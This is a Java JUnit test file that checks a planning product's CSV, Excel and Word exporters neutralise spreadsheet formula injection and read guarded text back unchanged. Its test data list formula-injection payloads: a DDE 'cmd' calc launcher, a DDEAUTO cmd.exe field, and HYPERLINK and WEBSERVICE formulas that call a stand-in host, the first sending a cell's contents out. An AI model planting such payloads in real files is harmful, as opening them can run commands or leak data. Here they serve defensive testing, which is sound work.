package org.followthrough.web.documents.out;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.followthrough.domain.rating.Colour;
import org.followthrough.web.documents.FormulaGuard;
import org.followthrough.web.documents.LibreOffice;
import org.followthrough.web.words.Words;
import org.followthrough.workflow.port.PlanHeader;
import org.followthrough.workflow.port.ReadPlanTable.PlanTable;
import org.followthrough.workflow.port.ReadPlanTable.Row;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

/** S12: words that a spreadsheet or a word processor would run. */
class FormulaInjectionTest {

    private static final Words WORDS = Words.ofTheProduct();
    /** By which sign cells are parted, in UTF-8, and that a cell may be a formula. */
    private static final String EVALUATED = "CSV:%s,34,76,1,,0,false,false,,,,,true";
    private static final String FORMULA = "formula=\"";
    private static final List<String> HOSTILE = List.of(
            "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
            "'=1+1", "''=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://thornmere.example/\"&A1,\"Open\")",
            "=WEBSERVICE(\"http://thornmere.example/\")", "a;=1+1;b", "a;\"=1+1\";b", "a; +1+1;b", "a\t=1+1\tb",
            "first line\n=1+1\n-1+1", "a\",=1+1,\"b", "a\";=1+1;\"b", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
            "{=1+1}", "=1+1\u0000");

    @TempDir private Path folder;

    @ParameterizedTest
    @ValueSource(strings = {"44", "59"})
    void s12OpensNoFormulaFromDelimitedTextWhateverPartsItsCells(String separator) throws Exception {
        assumeTrue(LibreOffice.isHere(), "Skipped: LibreOffice is not installed.");
        Path csv = written("plan.csv", new CsvWriter(WORDS));

        assertThat(opened(csv, EVALUATED.formatted(separator))).contains("1+1").doesNotContain(FORMULA);
    }

    @Test
    void s12OpensNoFormulaFromAWorkbook() throws Exception {
        assumeTrue(LibreOffice.isHere(), "Skipped: LibreOffice is not installed.");
        Path workbook = written("plan.xlsx", new XlsxWriter(WORDS));

        assertThat(opened(workbook, "Calc MS Excel 2007 XML")).contains("1+1").doesNotContain(FORMULA);
    }

    @Test
    void s12WouldSeeAFormula() throws Exception {
        assumeTrue(LibreOffice.isHere(), "Skipped: LibreOffice is not installed.");
        Path csv = Files.writeString(folder.resolve("unguarded.csv"), "a,=1+1\n");

        assertThat(opened(csv, EVALUATED.formatted(44))).contains(FORMULA);
    }

    @Test
    void s12WritesNoFormulaIntoAWorkbookAndNoFieldIntoADocument() throws IOException {
        ByteArrayOutputStream workbook = new ByteArrayOutputStream();
        new XlsxWriter(WORDS).write(plan(), workbook);
        ByteArrayOutputStream document = new ByteArrayOutputStream();
        new DocxWriter().write(new PlanPaper(WORDS).of(plan()), document);

        assertThat(parts(workbook.toByteArray(), "xl/")).contains("1+1").doesNotContain("<f>", "<f ");
        assertThat(parts(document.toByteArray(), "word/document.xml")).contains("DDEAUTO")
                .doesNotContain("instrText", "fldSimple", "fldChar");
    }

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void s12GivesEveryWordBackOnReImport(String words) {
        assertThat(FormulaGuard.unguarded(FormulaGuard.guarded(words))).isEqualTo(words);
        assertThat(FormulaGuard.unguarded(FormulaGuard.guarded(FormulaGuard.guarded(words))))
                .isEqualTo(FormulaGuard.guarded(words));
    }

    @Test
    void s12ReadsAWholePlanOfFormulasBackWordForWord() throws IOException {
        ReadAgain.assertSame(plan(), new CsvWriter(WORDS));
        ReadAgain.assertSame(plan(), new XlsxWriter(WORDS));
        ReadAgain.assertSame(plan(), (plan, out) -> new DocxWriter().write(new PlanPaper(WORDS).of(plan), out));
    }

    @ParameterizedTest
    @ValueSource(strings = {"see A; - second", "first\n- second", "a;b", "it's", "5-6", "who?; we"})
    void leavesWordsAloneThatNobodyRuns(String words) {
        assertThat(FormulaGuard.guarded(words)).isEqualTo(words);
    }

    private Path written(String name, PlanWriter writer) throws IOException {
        Path file = folder.resolve(name);
        try (OutputStream out = Files.newOutputStream(file)) {
            writer.write(plan(), out);
        }
        return file;
    }

    private String opened(Path document, String filter) throws IOException, InterruptedException {
        return Files.readString(new LibreOffice(folder).convert(document, filter, "fods", ""));
    }

    private static String parts(byte[] archive, String beginning) throws IOException {
        StringBuilder parts = new StringBuilder();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(archive))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                if (entry.getName().startsWith(beginning)) {
                    parts.append(new String(zip.readAllBytes(), StandardCharsets.UTF_8));
                }
            }
        }
        return parts.toString();
    }

    /** Each hostile text in every cell that takes free words. */
    private static PlanTable plan() {
        List<Row> rows = new ArrayList<>();
        for (int at = 0; at < HOSTILE.size(); at++) {
            String words = HOSTILE.get(at);
            String issue = "A" + (at + 1);
            rows.add(new Row("A", "Theme", issue, words, "=4", issue + ".1", "x" + words, "Ongoing", null,
                    List.of("Sam Patel"), Colour.ON_TRACK, null, words));
        }
        return new PlanTable(new PlanHeader(1, "Plan", "Example Council", null, null), LocalDate.of(2030, 3, 4), List.of(),
                rows);
    }
}
